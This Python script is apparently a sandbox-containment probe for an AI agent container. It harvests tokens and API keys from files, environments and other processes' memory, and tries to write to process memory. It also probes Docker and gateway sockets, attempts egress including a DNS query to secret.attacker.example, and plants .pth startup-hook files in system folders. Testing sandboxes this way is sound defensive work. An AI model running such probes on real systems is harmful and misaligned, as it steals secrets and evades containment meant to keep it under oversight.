"""Looking for anything worth knowing, and for anybody who could be told."""

# A program for the inside of a container, about what the kernel answers.
# ruff: noqa: BLE001, PTH118, PTH123, PTH208

from __future__ import annotations

import errno
import os
import re
import socket
from collections.abc import Callable, Iterator
from typing import Any

# What tokens and keys look like, and the marks that the test has put where nobody here may look.
SHAPES = re.compile(rb"\d{8,12}:[A-Za-z0-9_-]{30,}|sk-[A-Za-z0-9_-]{20,}|xox[bap]-[\w-]{10,}|canary-[0-9a-f]{16,}")
# In the image and the same for everybody: looked through for secrets, and not repeated.
STATIC = ("/usr/", "/opt/", "/lib", "/bin", "/etc/ssl/")
SOCKETS = (
    "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "/run/sandbox/gateway.sock",
    "/run/sandbox/proxy.sock", "/run/dbus/system_bus_socket", "/proc/1/root/run/docker.sock",
)  # fmt: skip
WRITABLE = ("/", "/tmp", "/run/llm", "/run/egress", "/dev/shm", "/opt/picoclaw", "/usr/bin", "/etc", "/dev", "/run")
_PROXY, _PROXY_SOCKET = ("127.0.0.1", 3128), "/run/egress/proxy.sock"
_TOLD = 5000
_REQUEST = b"GET / HTTP/1.0\r\n\r\n"
_QUERY = b"\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x06secret\x08attacker\x07example\0\0\x01\0\x01"


def attempt(action: Callable[..., Any], *arguments: Any) -> str:
    """What came of it after `done: `, or the name of the error."""
    try:
        return f"done: {action(*arguments)!r}"[:_TOLD]
    except TimeoutError:
        return "ETIMEDOUT"
    except socket.gaierror as error:
        return f"EAI {error.errno}"
    except OSError as error:
        return errno.errorcode.get(error.errno or 0, str(error.errno))
    except Exception as error:
        return type(error).__name__


def look() -> dict[str, Any]:
    """Everything that lies around."""
    names = re.findall(r"@\S+", _text(_read("/proc/net/unix")))
    return {
        "files": read_files(),
        "processes": read_processes(),
        "sockets": {path: attempt(_connect, socket.AF_UNIX, path) for path in SOCKETS},
        "abstract": {name: attempt(_connect, socket.AF_UNIX, f"\0{name[1:]}") for name in names},
        "written": {path: attempt(mark, path) for path in WRITABLE},
    }


def read_files() -> dict[str, str]:
    """All that can be read: whole where it is this container's own, secrets only where it is the image's."""
    found = {}
    for path in _files():
        data = _read(path, 1 << 24)
        start = b"" if path.removeprefix("/proc/1/root").startswith(STATIC) else data[:65536]
        if told := b" ".join(filter(None, (start, *SHAPES.findall(data)))):
            found[path] = _text(told)
    return found


def read_processes() -> dict[str, str]:
    """Of each process what /proc tells, and whatever in its memory looks like a secret."""
    found = {}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline", "mountinfo", "net/unix", "cgroup"):
            found[f"/proc/{pid}/{name}"] = _text(_read(f"/proc/{pid}/{name}"))
        found[f"/proc/{pid}/fd"] = attempt(os.listdir, f"/proc/{pid}/fd")
        if int(pid) != os.getpid():
            found[f"/proc/{pid}/mem"] = attempt(_read_memory, pid)
            found[f"/proc/{pid}/mem, writing"] = attempt(os.open, f"/proc/{pid}/mem", os.O_RDWR | os.O_CLOEXEC)
    return found


def reach(addresses: list[str], ports: list[int], names: list[str], heads: list[str]) -> dict[str, Any]:
    """Try every address and name directly, and every request to the proxy by both ways to it."""
    tcp, udp = socket.SOCK_STREAM, socket.SOCK_DGRAM
    places = [(host, port) for host in addresses for port in ports]
    ways = {"loopback": (socket.AF_INET, _PROXY), "socket": (socket.AF_UNIX, _PROXY_SOCKET)}
    return {
        "tcp": {f"{host}:{port}": attempt(_connect, socket.AF_INET, (host, port), tcp) for host, port in places},
        "udp": {host: attempt(_connect, socket.AF_INET, (host, 53), udp, _QUERY) for host in addresses},
        "names": {name: attempt(socket.getaddrinfo, name, 443) for name in names},
        "proxied": {
            f"{way}: {head}": attempt(_first_line, *where, head) for way, where in ways.items() for head in heads
        },
    }


def mark(folder: str) -> str:
    """Leave a file that would be found again, and be run if anything ran such files."""
    path = f"{folder}/twin-was-here.pth"
    with open(path, "wb") as file:
        file.write(b"import os\n")
    return path


def _files() -> Iterator[str]:
    for root in ("/", "/proc/1/root/", "/dev/shm"):
        for folder, folders, names in os.walk(root):
            if folder == root != "/dev/shm":
                folders[:] = [name for name in folders if name not in ("proc", "sys", "dev")]
            yield from (os.path.join(folder, name) for name in names)


def _read(path: str, most: int = 1 << 20) -> bytes:
    """The beginning of a file, without waiting for one that never ends; nothing when it is refused."""
    try:
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
    except OSError:
        return b""
    try:
        return os.read(file, most)
    except OSError:
        return b""
    finally:
        os.close(file)


def _read_memory(pid: str) -> list[bytes]:
    found: set[bytes] = set()
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as memory, open(f"/proc/{pid}/maps", encoding="ascii") as maps:
        for line in maps:
            first, last = (int(number, 16) for number in line.split()[0].split("-"))
            if "rw" in line and last - first < 1 << 26:
                try:
                    memory.seek(first)
                    found.update(SHAPES.findall(memory.read(last - first)))
                except OSError:
                    continue
    return sorted(found)


def _connect(
    family: int, address: Any, kind: int = socket.SOCK_STREAM, sent: bytes = b"GET / HTTP/1.0\r\n\r\n"
) -> bytes:
    with socket.socket(family, kind) as connection:
        connection.settimeout(1.5)
        connection.connect(address)
        connection.send(sent)
        return connection.recv(300)


def _first_line(family: int, address: Any, head: str) -> str:
    """Of what the proxy answers to a request."""
    with socket.socket(family, socket.SOCK_STREAM) as connection:
        connection.settimeout(5)
        connection.connect(address)
        connection.sendall(head.encode("latin-1"))
        return _text(connection.recv(200)).partition("\r\n")[0]


def _text(data: bytes) -> str:
    return data.decode("ascii", "replace")
